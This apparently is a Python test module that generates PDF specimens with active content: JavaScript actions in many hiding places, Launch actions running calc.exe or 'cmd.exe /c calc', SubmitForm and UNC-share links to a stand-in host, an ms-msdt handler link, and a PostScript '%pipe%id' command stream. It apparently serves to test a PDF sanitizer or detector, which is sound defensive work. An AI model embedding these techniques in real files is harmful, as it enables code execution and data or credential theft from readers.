"""PDFs that act: each deed a reader may be told to do, each thing it may carry, each place for one."""

from __future__ import annotations

from collections.abc import Iterator
from functools import partial

from tests.attack import pdf_writer as pdf
from tests.attack.specimen import Specimen, made

SCRIPT = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
DEEDS = {
    "script": SCRIPT,
    "script in a hexadecimal string": b"<</S/JavaScript/JS<6170702e616c657274283129>>>",
    "program": b"<</S/Launch/F(calc.exe)>>",
    "program with arguments": b"<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>",
    "go to a file elsewhere": b"<</S/GoToR/F(\\\\\\\\203.0.113.9\\\\a.pdf)/D[0/Fit]>>",
    "go to an embedded file": b"<</S/GoToE/T<</R/C/N(a.pdf)>>>>",
    "submit": b"<</S/SubmitForm/F<</FS/URL/F(http://203.0.113.9/)>>>>",
    "import data": b"<</S/ImportData/F(a.fdf)>>",
    "rendition": b"<</S/Rendition/OP 0/JS(app.alert\\(1\\))>>",
    "movie": b"<</S/Movie/T(a)/Operation/Play>>",
    "sound": b"<</S/Sound/Sound 10 0 R>>",
    "three-dimensional view": b"<</S/GoTo3DView/TA 3 0 R/V 0>>",
    "rich media": b"<</S/RichMediaExecute/TA 3 0 R/CMD<</C(play)>>>>",
    "thread elsewhere": b"<</S/Thread/F(\\\\\\\\203.0.113.9\\\\a.pdf)/D 0>>",
    "link with a script": b"<</S/URI/URI(javascript:alert\\(1\\))>>",
    "link to a file": b"<</S/URI/URI(file:///C:/Windows/System32/calc.exe)>>",
    "link to a share": b"<</S/URI/URI(\\\\\\\\203.0.113.9\\\\a)>>",
    "link to a handler": b"<</S/URI/URI(ms-msdt:/id PCWDiagnostic)>>",
}
_SOUND = pdf.stream(b"\0" * 8, b"/R 8000")
_FILE = pdf.stream(b"MZ", b"/Type/EmbeddedFile")
_SPEC = b"<</Type/Filespec/F(a.exe)/EF<</F 10 0 R>>>>"


def _note(entries: bytes) -> bytes:
    return b"/Annots[<</Type/Annot/Rect[0 0 9 9]%s>>]" % entries


def _field(entries: bytes) -> bytes:
    return b"/AcroForm<</Fields[<</FT/Tx/T(a)%s>>]>>" % entries


THINGS = {
    "embedded file by name": (b"/Names<</EmbeddedFiles<</Names[(a)11 0 R]>>>>", b"", _FILE, _SPEC),
    "embedded file that nothing names": (b"", b"", _FILE, _SPEC),
    "embedded file without its type": (b"", b"", pdf.stream(b"MZ"), _SPEC),
    "associated file": (b"/AF[11 0 R]", b"", _FILE, _SPEC),
    "associated file of a page": (b"", b"/AF[11 0 R]", _FILE, _SPEC),
    "related files": (b"", b"", _FILE, b"<</Type/F/F(a)/RF<</F[(a)10 0 R]>>>>"),
    "portfolio": (b"/Collection<</View/D>>", b"", _FILE, _SPEC),
    "attachment on a page": (b"", _note(b"/Subtype/FileAttachment/FS 11 0 R"), _FILE, _SPEC),
    "rich media on a page": (b"", _note(b"/Subtype/RichMedia/RichMediaContent<<>>")),
    "movie on a page": (b"", _note(b"/Subtype/Movie/Movie<</F(a.avi)>>")),
    "sound on a page": (b"", _note(b"/Subtype/Sound/Sound 10 0 R"), _SOUND),
    "screen on a page": (b"", _note(b"/Subtype/Screen/A<</S/Rendition/OP 0>>")),
    "three dimensions on a page": (b"", _note(b"/Subtype/3D/3DD 10 0 R"),
                                   pdf.stream(b"U3D", b"/Type/3D/Subtype/U3D")),
    "three dimensions with a script": (b"", b"", pdf.stream(
        b"U3D", b"/Type/3D/Subtype/U3D/OnInstantiate 11 0 R"), pdf.stream(b"x=1")),
    "XFA": (b"/AcroForm<</Fields[]/XFA 10 0 R>>", b"", pdf.stream(b"<xdp:xdp/>")),
    "XFA in parts": (b"/AcroForm<</Fields[]/XFA[(template)10 0 R]>>", b"", pdf.stream(b"<a/>")),
    "XFA behind a reference": (b"/AcroForm 10 0 R", b"", b"<</Fields[]/XFA 11 0 R>>",
                               pdf.stream(b"<a/>")),
    "stream kept elsewhere": (b"", b"", pdf.stream(b"", b"/F(\\\\\\\\203.0.113.9\\\\a)")),
    "stream at an address": (b"", b"", pdf.stream(
        b"", b"/F<</FS/URL/F(http://203.0.113.9/)>>/FFilter/FlateDecode")),
    "page of another file": (b"", b"", pdf.stream(
        b"", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Ref<</F(a.pdf)/Page 0>>")),
    "picture kept elsewhere": (b"", b"", pdf.stream(
        b"", b"/Type/XObject/Subtype/Image/OPI<</2.0<</F(http://203.0.113.9/a.tif)>>>>")),
    "PostScript": (b"", b"/Resources<</XObject<</P 10 0 R>>>>", pdf.stream(
        b"(%pipe%id)(w)file", b"/Type/XObject/Subtype/PS")),
    "PostScript under a form's name": (b"", b"", pdf.stream(
        b"", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Subtype2/PS/PS 11 0 R"), pdf.stream(b"")),
    "rendition media": (b"/Names<</Renditions<</Names[(a)10 0 R]>>>>", b"",
                        b"<</S/MR/C<</S/MCD/D(a.avi)>>>>"),
}  # fmt: skip
PLACES = {
    "when opened, behind a reference": (b"/OpenAction 10 0 R", b"", SCRIPT),
    "when the file is closed": (b"/AA<</WC%s>>" % SCRIPT, b""),
    "when a page opens": (b"", b"/AA<</O%s>>" % SCRIPT),
    "on a note, when the pointer enters": (b"", _note(b"/Subtype/Widget/AA<</E%s>>" % SCRIPT)),
    "on a note, before its page": (b"", _note(b"/Subtype/Link/PA%s" % SCRIPT)),
    "on a field": (_field(b"/A%s" % SCRIPT), b""),
    "on a field, at a key": (_field(b"/AA<</K%s>>" % SCRIPT), b""),
    "on a field, when calculated": (b"/AcroForm<</Fields[10 0 R]/CO[10 0 R]>>", b"",
                                    b"<</FT/Tx/T(a)/AA<</C%s>>>>" % SCRIPT),
    "on a field's kid": (b"/AcroForm<</Fields[10 0 R]>>", b"",
                         b"<</FT/Tx/T(a)/Kids[<</Parent 10 0 R/AA<</F%s>>>>]>>" % SCRIPT),
    "in the outline": (b"/Outlines 10 0 R", b"", b"<</First 11 0 R/Last 11 0 R/Count 1>>",
                       b"<</Title(a)/Parent 10 0 R/A%s>>" % SCRIPT),
    "after a harmless step": (b"/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next%s>>" % SCRIPT, b""),
    "last of several steps": (
        b"/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next[<</S/Named/N/NextPage>>%s]>>" % SCRIPT, b""),
    "among the names": (b"/Names<</JavaScript<</Names[(a)%s]>>>>" % SCRIPT, b""),
    "deep among the names": (
        b"/Names<</JavaScript<</Kids[<</Kids[<</Limits[(a)(a)]/Names[(a)%s]>>]>>]>>>>" % SCRIPT, b""),
    "in an object nobody names": (b"", b"", SCRIPT),
    "with its kind behind a reference": (b"/OpenAction<</S 10 0 R/JS(x)>>", b"", b"/JavaScript"),
    "in a stream's dictionary": (b"", b"", pdf.stream(b"", b"/A%s" % SCRIPT)),
    "in a page's resources": (b"", b"/Resources<</Properties<</P%s>>>>" % SCRIPT),
    "in a private entry": (b"/PieceInfo<</X<</Private%s>>>>" % SCRIPT, b""),
    "in 300 lists": (b"/X%s%s%s" % (b"[" * 300, SCRIPT, b"]" * 300), b""),
    "in 40 dictionaries": (b"/X%s%s%s" % (b"<</A" * 40, SCRIPT, b">>" * 40), b""),
    "without its kind": (b"/OpenAction<</JS(app.alert\\(1\\))>>", b""),
    "as a stream": (b"/OpenAction<</S/JavaScript/JS 10 0 R>>", b"", pdf.packed(b"app.alert(1)")),
    "required of the reader": (
        b"/Requirements[<</S/EnableJavaScripts>>]/OpenAction%s" % SCRIPT, b""),
}  # fmt: skip


def specimens() -> Iterator[Specimen]:
    opened = {what: partial(pdf.paper, b"/OpenAction" + deed) for what, deed in DEEDS.items()}
    linked = {
        what: partial(pdf.paper, b"", _note(b"/Subtype/Link/A" + deed))
        for what, deed in DEEDS.items()
    }
    yield from made("pdf", "deed", opened)
    yield from made("pdf", "link", linked)
    yield from made(
        "pdf", "thing", {what: partial(pdf.paper, *told) for what, told in THINGS.items()}
    )
    yield from made(
        "pdf", "place", {what: partial(pdf.paper, *told) for what, told in PLACES.items()}
    )
